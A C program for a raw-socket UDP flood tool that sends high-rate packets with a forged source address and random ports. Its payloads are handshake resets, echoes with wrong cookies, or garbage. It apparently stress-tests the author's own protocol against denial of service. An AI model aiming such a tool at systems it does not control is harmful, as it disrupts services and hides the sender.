/* A flood of forged first packets: UDP over IPv4 from changing ports, by a raw socket, so that each packet costs the sender
 * less than the receiver. Root.
 *
 *     flood SOURCE DESTINATION PORT KIND PACKETS_PER_S SECONDS
 *
 * KIND: "reset" (as a client begins), "echo" (the packet that should bring our cookie back, with a wrong one) or "garbage".
 * Prints how many packets it sent in how many seconds. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, PAYLOAD_MAX = 64, FIRST_PORT = 1024 };

struct forged {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t payload[PAYLOAD_MAX];
};

static uint64_t random_state = 0x9E3779B97F4A7C15u;

static uint64_t next_random(void)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return random_state;
}

static size_t fill(uint8_t *payload, const char *kind)
{
    uint64_t session_id = next_random(), cookie = next_random();
    memset(payload, 0, PAYLOAD_MAX);
    memcpy(payload + 1, &session_id, 8);
    if (strcmp(kind, "reset") == 0) {
        payload[0] = 7 << 3;
        return 14; /* no acknowledgements, packet id 0 */
    }
    if (strcmp(kind, "echo") == 0) {
        payload[0] = 4 << 3;
        payload[9] = 1; /* acknowledges packet 0 of the session that the cookie names */
        memcpy(payload + 14, &cookie, 8);
        payload[25] = 1; /* packet id */
        return 40;
    }
    memcpy(payload, &cookie, 8);
    return 1 + session_id % PAYLOAD_MAX;
}

static double seconds_since(const struct timespec *begun)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)(now.tv_sec - begun->tv_sec) + (double)(now.tv_nsec - begun->tv_nsec) / 1e9;
}

int main(int argc, char **argv)
{
    if (argc != 7) {
        fprintf(stderr, "usage: flood SOURCE DESTINATION PORT KIND PACKETS_PER_S SECONDS\n");
        return 2;
    }
    static struct forged packets[BATCH];
    static struct iovec vectors[BATCH];
    static struct mmsghdr messages[BATCH];
    struct sockaddr_in to = {.sin_family = AF_INET};
    struct in_addr from;
    if (inet_pton(AF_INET, argv[1], &from) != 1 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1)
        return 2;
    double rate = atof(argv[5]), seconds = atof(argv[6]);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("raw socket");
        return 1;
    }
    for (unsigned i = 0; i < BATCH; i++) {
        vectors[i].iov_base = &packets[i];
        messages[i].msg_hdr =
            (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &vectors[i], .msg_iovlen = 1};
    }
    struct timespec begun;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    unsigned long sent = 0;
    double now;
    while ((now = seconds_since(&begun)) < seconds) {
        if ((double)sent > now * rate) {
            nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
            continue;
        }
        for (unsigned i = 0; i < BATCH; i++) {
            struct forged *packet = &packets[i];
            size_t length = fill(packet->payload, argv[4]);
            packet->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
            packet->ip.saddr = from.s_addr;
            packet->ip.daddr = to.sin_addr.s_addr; /* the kernel fills in length and checksum */
            packet->udp.source = htons((uint16_t)(FIRST_PORT + next_random() % (65536 - FIRST_PORT)));
            packet->udp.dest = htons((uint16_t)atoi(argv[3]));
            packet->udp.len = htons((uint16_t)(sizeof packet->udp + length)); /* no checksum: allowed over IPv4 */
            vectors[i].iov_len = sizeof packet->ip + sizeof packet->udp + length;
        }
        int done = sendmmsg(fd, messages, BATCH, 0);
        if (done > 0)
            sent += (unsigned long)done;
        else if (errno != ENOBUFS && errno != EINTR) {
            perror("sendmmsg");
            return 1;
        }
    }
    printf("%lu packets in %.3f s\n", sent, seconds_since(&begun));
    return 0;
}
